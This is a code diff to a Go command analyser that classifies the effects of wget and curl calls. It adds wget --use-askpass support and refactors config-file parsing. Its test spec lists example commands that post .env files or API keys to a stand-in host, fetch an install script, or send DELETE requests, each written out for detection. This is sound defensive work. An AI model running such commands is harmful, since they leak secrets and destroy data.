@@ -69,7 +69,7 @@ var netSpecs = []Spec{
 			"wget -O out.bin https://x.example/a => write:download out.bin\n" + "wget -qO- https://x.example/install.sh !> write:download -\n" +
 			"wget -P dl https://x.example/a.tgz => write:download dl/a.tgz\n" + "wget --post-file=.env https://x.example => read:send .env\n" +
 			"wget --body-file .env --method PUT https://x.example => read:send .env\n" + "wget --post-data \"k=$API_KEY\" https://x.example => expose:var API_KEY\n" +
-			"wget --method DELETE https://api.example.com/x => destroy:http https://api.example.com/x\n" + "wget -i urls.txt => read:send urls.txt\n" +
+			"wget --method DELETE https://api.example.com/x => destroy:http https://api.example.com/x\n" + "wget -i urls.txt => read:send urls.txt\n" + "wget --use-askpass=./ask.sh https://x.example/a => exec:sh ./ask.sh\n" +
 			"wget --header \"Authorization: token $GH_TOKEN\" https://x.example !> expose:var GH_TOKEN\n" + "wget --load-cookies c.txt https://x.example => read:config c.txt\n" +
 			"wget -o log.txt https://x.example/a => write log.txt\n" + "wget -r https://x.example/ => write-r:download x.example\n" + "wget -r https://x.example/ !> write-r:download .\n" +
 			"wget -mnp https://x.example/docs/ => write-r:download x.example\n" + "wget -r -nH https://x.example/ => write-r:download .\n" +
@@ -356,6 +356,9 @@ func wgetDoes(c *Call) {
 			}
 		case "post-data", "body-data":
 			exposeWords(c, []Word{w}, "wget "+dash(o.Name))
+		case "use-askpass":
+			// wget runs the program to ask for each password it needs.
+			c.Add(Effect{Kind: Exec, Lang: "sh", Text: w.S, Known: !w.Dyn, Dyn: w.Dyn, By: "wget --use-askpass"})
 		case "load-cookies", "config", "certificate", "private-key", "ca-certificate":
 			c.Add(Effect{Kind: Read, Path: c.PathOf(w), Class: "config", By: "wget " + dash(o.Name)})
 		case "save-cookies", "o", "rejected-log", "warc-file":
@@ -806,21 +809,7 @@ func curlConfig(c *Call, w Word) {
 	if !ok {
 		return
 	}
-	var args []Word
-	for _, line := range strings.Split(text, "\n") {
-		name, value, ok := curlConfigLine(line)
-		if !ok || name == "K" || name == "config" {
-			continue
-		}
-		if len(name) == 1 {
-			args = append(args, Word{S: "-" + name})
-		} else {
-			args = append(args, Word{S: "--" + name})
-		}
-		if value != "" {
-			args = append(args, Word{S: value})
-		}
-	}
+	args := curlConfigArgs(text, false)
 	if len(args) == 0 {
 		return
 	}
@@ -832,6 +821,27 @@ func curlConfig(c *Call, w Word) {
 		e.By = "curl -K " + w.S
 		c.Add(e)
 	}
+}
+
+// curlConfigArgs are the options a curl config file holds, as words on a line; a config it
+// names in turn (-K, --config) is kept only where nested says so.
+func curlConfigArgs(text string, nested bool) []Word {
+	var args []Word
+	for _, line := range strings.Split(text, "\n") {
+		name, value, ok := curlConfigLine(line)
+		if !ok || !nested && (name == "K" || name == "config") {
+			continue
+		}
+		if len(name) == 1 {
+			args = append(args, Word{S: "-" + name})
+		} else {
+			args = append(args, Word{S: "--" + name})
+		}
+		if value != "" {
+			args = append(args, Word{S: value})
+		}
+	}
+	return args
 }
 
 // configCall judges the options a config file adds (in.Args) as a call of in.Name on c's
@@ -898,22 +908,7 @@ func wgetConfig(c *Call) {
 	if !ok {
 		return
 	}
-	var args []Word
-	for _, line := range strings.Split(text, "\n") {
-		line = strings.TrimSpace(line)
-		if line == "" || line[0] == '#' {
-			continue
-		}
-		name, value, ok := strings.Cut(line, "=")
-		if !ok {
-			continue
-		}
-		opt := wgetrcOption(strings.TrimSpace(name))
-		if opt == "" {
-			continue
-		}
-		args = append(args, Word{S: "--" + opt + "=" + strings.Trim(strings.TrimSpace(value), "\"'")})
-	}
+	args := wgetrcArgs(text)
 	if len(args) == 0 {
 		return
 	}
@@ -931,6 +926,27 @@ func wgetConfig(c *Call) {
 		e.By = "wget " + w.S
 		c.Add(e)
 	}
+}
+
+// wgetrcArgs are the options a wgetrc's commands stand for, as words on a line.
+func wgetrcArgs(text string) []Word {
+	var args []Word
+	for _, line := range strings.Split(text, "\n") {
+		line = strings.TrimSpace(line)
+		if line == "" || line[0] == '#' {
+			continue
+		}
+		name, value, ok := strings.Cut(line, "=")
+		if !ok {
+			continue
+		}
+		opt := wgetrcOption(strings.TrimSpace(name))
+		if opt == "" {
+			continue
+		}
+		args = append(args, Word{S: "--" + opt + "=" + strings.Trim(strings.TrimSpace(value), "\"'")})
+	}
+	return args
 }
 
 // wgetrcOption is the long option a wgetrc command stands for, "" for those that write,
@@ -960,6 +976,8 @@ func wgetrcOption(name string) string {
 		return "load-cookies"
 	case "input":
 		return "input-file"
+	case "useaskpass":
+		return "use-askpass"
 	}
 	return ""
 }
